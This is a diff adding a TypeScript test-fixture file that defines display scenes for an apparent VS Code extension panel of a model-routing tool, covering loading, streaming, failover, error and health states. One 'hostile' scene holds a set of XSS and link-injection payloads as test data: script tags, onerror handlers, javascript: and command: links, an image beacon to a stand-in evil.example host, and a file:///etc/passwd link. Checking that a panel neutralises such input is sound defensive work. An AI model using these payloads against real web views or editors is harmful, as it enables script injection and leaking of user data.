@@ -1,0 +1,344 @@
+/** Every state in which the panel is looked at and tested: what the extension has sent when the reader looks. */
+import type { PanelUpdate, RouterEvent, Snapshot, TaskView } from '@task-router/protocol';
+import type { Tab } from '../src/state/ui-state.ts';
+import {
+  answer,
+  candidate,
+  decision,
+  demoNodes,
+  dropped,
+  gpt,
+  lab,
+  nodes,
+  outcome,
+  qwen,
+  rejected,
+  sonnet,
+  task,
+} from './samples.ts';
+
+export interface PanelScene {
+  /** Section that is open. */
+  readonly tab: Tab;
+  /** What the extension answers to the first `ready`. */
+  readonly updates: readonly PanelUpdate[];
+}
+
+function snapshot(tasks: readonly TaskView[], more: Partial<Snapshot> = {}): PanelUpdate {
+  return {
+    type: 'snapshot',
+    snapshot: {
+      epoch: 'epoch-1',
+      seq: 0,
+      tasks: [...tasks],
+      nodes: [...nodes],
+      configProblems: [],
+      wantedKeys: [],
+      ...more,
+    },
+    selectedTaskId: tasks.at(-1)?.taskId ?? null,
+    graded: { t1: 'good' },
+  };
+}
+
+function events(...list: readonly RouterEvent[]): PanelUpdate[] {
+  return list.map((event, index) => ({ type: 'event', event: { seq: index + 1, event } }));
+}
+
+const connected: PanelUpdate = { type: 'connection', state: 'connected', message: null };
+const scene = (updates: readonly PanelUpdate[], tab: Tab = 'task'): PanelScene => ({ tab, updates });
+
+const earlier: readonly TaskView[] = [
+  task('t1', {
+    title: 'Write a unit test for parseLineRange',
+    kind: 'test',
+    startedAtMs: Date.now() - 3_600_000,
+    text: 'Done.',
+    outcome: outcome({ route: qwen.route, costUsd: 0 }),
+  }),
+  task('t2', {
+    title: 'Fix: Type "string | undefined" is not assignable to type "string" in config/load.ts',
+    kind: 'fix',
+    startedAtMs: Date.now() - 1_800_000,
+    outcome: outcome({ status: 'cancelled', costUsd: null }),
+  }),
+];
+
+const failing = task('t4', {
+  transitions: [
+    {
+      from: sonnet.route,
+      to: qwen.route,
+      cause: 'network',
+      message: 'connect ECONNREFUSED 203.0.113.7:443',
+      mode: 'restart',
+      atMs: Date.now() - 3_000,
+    },
+    {
+      from: qwen.route,
+      to: gpt.route,
+      cause: 'stall',
+      message: 'No token for 20 s after 212 tokens.',
+      mode: 'continue',
+      atMs: Date.now() - 1_200,
+    },
+  ],
+  text: answer,
+  outcome: outcome({ route: gpt.route, attempts: 3, timings: { queuedMs: 0, firstTokenMs: 12_400, totalMs: 41_020 } }),
+});
+
+const longName =
+  'mradermacher/Qwen3-Coder-480B-A35B-Instruct-Abliterated-Heretic-v2-GGUF-imatrix-Q4_K_M-ctx262144-with-a-name-that-does-not-end';
+const longRoute = candidate(`a-node-with-a-rather-long-name-in-the-office/${longName}`, 'openai-compatible', [0.9, 0.7, 0.6, 0.5], {
+  expected: { firstTokenMs: 12_345, totalMs: 1_234_567, costUsd: 123.456 },
+  state: 'degraded',
+});
+
+const hostileName = '<img src=x onerror="window.hostile=1"><script>window.hostile=2</script>](command:evil)';
+const hostileRoute = candidate(`evil/${hostileName}`, 'openai-compatible', [0.9, 0.8, 0.7, 0.6], { label: hostileName });
+
+/** Everything a hostile model may try; none of it may load, run or navigate. */
+export const hostileAnswer = `# <script>window.hostile = 3</script>
+
+<img src="https://evil.example/leak.png" onerror="window.hostile = 4"> <iframe src="https://evil.example/"></iframe>
+<style>body { display: none }</style> <form action="https://evil.example/"><button>go</button></form>
+
+![leak](https://evil.example/leak.png?secret) ![inline](data:image/png;base64,AAAA)
+
+[command](command:workbench.action.terminal.new) [script](javascript:window.hostile=5) [data](data:text/html,<script>window.hostile=6</script>)
+[http](http://evil.example/) [file](file:///etc/passwd) [vscode](vscode://evil/) [relative](/etc/passwd) [creds](https://user:pass@evil.example/)
+[fine](https://example.com/path?q=1) <https://example.com/auto> <javascript:alert(1)>
+
+[ref]: javascript:window.hostile=7
+[ref] and [quoted](https://example.com/" onclick="window.hostile=8)
+
+\`\`\`html "><img src=x onerror=window.hostile=9>
+<img src=x onerror="window.hostile=10">
+\`\`\`
+
+<svg onload="window.hostile=11"><a xlink:href="javascript:window.hostile=12">x</a></svg> <math><mtext><style><img src=x onerror=window.hostile=13></style></mtext></math>
+`;
+
+const many = [
+  ...[sonnet, qwen, gpt, lab],
+  ...Array.from({ length: 6 }, (_, index) =>
+    candidate(`openrouter/model-${index + 1}`, 'openai-compatible', [0.7 - index * 0.05, 0.6, 0.5, 0.4], {
+      label: `OpenRouter model ${index + 1}`,
+    }),
+  ),
+  ...dropped,
+  rejected('claude/claude-opus-4-5', 'anthropic', 'policy.denied', 'The pattern claude/claude-opus* is denied.', {
+    setting: 'Folder "api": taskRouter.policy.deny',
+  }),
+  rejected('openai/gpt-5', 'openai', 'health.ejected', '5 failures in the last minute; next probe in 40 s.', { state: 'ejected' }),
+];
+
+const demoFirst = candidate('demo-careful/careful-1', 'anthropic', [0.8, 0.5, 0.9, 0.5], {
+  label: 'careful-1',
+  isLocal: true,
+  isDemo: true,
+  expected: { firstTokenMs: 600, totalMs: 5_000, costUsd: 0 },
+});
+const demoSecond = candidate('demo-quick/quick-1', 'openai-compatible', [0.5, 0.9, 0.9, 0.5], {
+  label: 'quick-1',
+  isLocal: true,
+  isDemo: true,
+  expected: { firstTokenMs: 80, totalMs: 900, costUsd: 0 },
+});
+
+export const scenes = {
+  loading: scene([]),
+  starting: scene([{ type: 'connection', state: 'starting', message: null }]),
+  empty: scene([snapshot([], { nodes: [] }), connected]),
+  noModels: scene([snapshot([], { nodes: nodes.filter((node) => node.access !== 'ready') }), connected]),
+  noTasks: scene([snapshot([]), connected]),
+  choosing: scene([snapshot([...earlier, task('t3', { decision: null })]), connected]),
+  waiting: scene([snapshot([...earlier, task('t3')]), connected]),
+  streaming: scene([
+    snapshot([...earlier, task('t3', { text: answer.slice(0, 700) })]),
+    connected,
+    ...events({ type: 'delta', taskId: 't3', text: answer.slice(700, 1_000) }),
+  ]),
+  failoverRestart: scene([
+    snapshot([...earlier, task('t3', { text: 'This will be dropped.' })]),
+    connected,
+    ...events(
+      {
+        type: 'transition',
+        taskId: 't3',
+        transition: {
+          from: sonnet.route,
+          to: qwen.route,
+          cause: 'network',
+          message: 'connect ECONNREFUSED 203.0.113.7:443',
+          mode: 'restart',
+          atMs: Date.now(),
+        },
+      },
+      { type: 'delta', taskId: 't3', text: answer.slice(0, 300) },
+    ),
+  ]),
+  failovers: scene([snapshot([...earlier, failing]), connected]),
+  noRoute: scene([
+    snapshot([
+      task('t3', {
+        decision: decision('t3', {
+          route: null,
+          runnerUp: null,
+          candidates: [...dropped],
+          summary: 'No route is left: one lacks a key, one costs too much, one reads too little context.',
+        }),
+        error: {
+          code: 'route.none',
+          message: 'No eligible route for this task.',
+          next: 'Add a provider key, point at a local server, or start the demo fleet; the decision card says what each route lacks.',
+        },
+      }),
+    ]),
+    connected,
+  ]),
+  error: scene([
+    snapshot([
+      ...earlier,
+      {
+        ...failing,
+        text: '',
+        outcome: null,
+        error: {
+          code: 'route.allFailed',
+          message: 'All three routes failed; the last one with: rate limit until 14:32.',
+          next: 'Look at the transitions for the causes; retry when a route is back.',
+        },
+      },
+    ]),
+    connected,
+  ]),
+  finished: scene([
+    snapshot([...earlier, task('t3', { text: answer, outcome: outcome() })]),
+    connected,
+  ]),
+  truncated: scene([
+    snapshot([
+      task('t1', {
+        text: answer,
+        textTruncated: true,
+        decision: decision('t1', { cached: true, propensity: 0.04, route: qwen.route, runnerUp: sonnet.route }),
+        outcome: outcome({
+          route: qwen.route,
+          finishReason: 'length',
+          costUsd: 0,
+          tokens: { input: null, output: null, cachedInput: null, reasoning: null },
+        }),
+      }),
+    ]),
+    connected,
+  ]),
+  unknownCost: scene([
+    snapshot([
+      task('t1', {
+        text: 'A short answer.',
+        retryOf: 't0',
+        decision: decision('t1', { route: lab.route, candidates: [lab, qwen], context: [], skippedContext: [], settings: [] }),
+        outcome: outcome({ route: lab.route, costUsd: null }),
+      }),
+    ]),
+    connected,
+  ]),
+  manyCandidates: scene([
+    snapshot([task('t1', { decision: decision('t1', { candidates: many }), text: answer, outcome: outcome() })]),
+    connected,
+  ]),
+  longNames: scene([
+    snapshot([
+      ...earlier,
+      task('t5', {
+        title:
+          'Explain why AbstractSingletonProxyFactoryBeanConfigurationProcessorRegistrarWithoutAnySpacesInItsName is loaded twice, once from the application context and once from …',
+        decision: decision('t5', {
+          route: longRoute.route,
+          candidates: [longRoute, sonnet, rejected(`x/${longName}`, 'google', 'policy.localOnly', `Local only. ${longName}`, { setting: `Folder "${longName}": taskRouter.policy.localOnly = true` })],
+          context: [{ file: `packages/${longName}/src/main/java/${longName}.java`, range: { startLine: 1, endLine: 99_999 }, bytes: 1_999_999 }],
+        }),
+        text: `A paragraph with ${longName} inside.\n\n\`\`\`\n${longName.repeat(4)}\n\`\`\`\n`,
+        outcome: outcome({ route: longRoute.route, costUsd: 123.456 }),
+      }),
+    ]),
+    connected,
+  ]),
+  hostile: scene([
+    snapshot([
+      task('t1', {
+        title: hostileName,
+        decision: decision('t1', {
+          route: hostileRoute.route,
+          summary: hostileName,
+          candidates: [hostileRoute, rejected(`x/${hostileName}`, 'google', 'policy.denied', hostileName, { setting: hostileName })],
+          context: [{ file: hostileName, range: null, bytes: 1 }],
+          settings: [hostileName],
+        }),
+        transitions: [
+          { from: hostileRoute.route, to: qwen.route, cause: 'server', message: hostileName, mode: 'restart', atMs: Date.now() },
+        ],
+        text: hostileAnswer,
+        outcome: outcome({ route: hostileRoute.route }),
+        error: { code: hostileName.slice(0, 99), message: hostileName, next: hostileName },
+      }),
+    ]),
+    connected,
+  ]),
+  disconnected: scene([
+    snapshot([...earlier, task('t3', { text: answer.slice(0, 400) })]),
+    { type: 'connection', state: 'disconnected', message: 'Trying again in 4 s.' },
+  ]),
+  daemonFailed: scene([
+    { type: 'connection', state: 'failed', message: 'Node 20 is too old: run with Node 22.14 or newer.' },
+  ]),
+  demo: scene([
+    snapshot(
+      [
+        task('t1', {
+          decision: decision('t1', {
+            route: demoFirst.route,
+            runnerUp: demoSecond.route,
+            candidates: [demoFirst, demoSecond],
+            settings: [],
+            summary: 'careful-1 scores 0.70 against 0.70 for quick-1: it explains better, which outweighs its slowness.',
+          }),
+          text: 'This answer comes from the demo fleet: it is built from the files you sent, not by a model.\n',
+          outcome: outcome({ route: demoFirst.route, costUsd: 0 }),
+        }),
+      ],
+      { nodes: [...demoNodes] },
+    ),
+    connected,
+  ]),
+  health: scene([snapshot([...earlier]), connected], 'health'),
+  healthDemo: scene([snapshot([], { nodes: [...demoNodes] }), connected], 'health'),
+  healthEmpty: scene([snapshot([], { nodes: [] }), connected], 'health'),
+  healthProblems: scene(
+    [
+      snapshot([], {
+        configProblems: [
+          {
+            code: 'config.unknownKey',
+            message: 'Unknown key "polcy"; did you mean "policy"?',
+            next: 'Correct the key; the last good configuration stays in force.',
+            line: 14,
+          },
+          {
+            code: 'config.invalidValue',
+            message: 'nodes[0].baseUrl: the address has no protocol.',
+            next: 'Correct the value; the last good configuration stays in force.',
+            line: 3,
+          },
+        ],
+      }),
+      connected,
+    ],
+    'health',
+  ),
+  failoverTable: scene([snapshot([...earlier, failing]), connected], 'failover'),
+  failoverEmpty: scene([snapshot([...earlier]), connected], 'failover'),
+} satisfies Record<string, PanelScene>;
+
+export type SceneName = keyof typeof scenes;
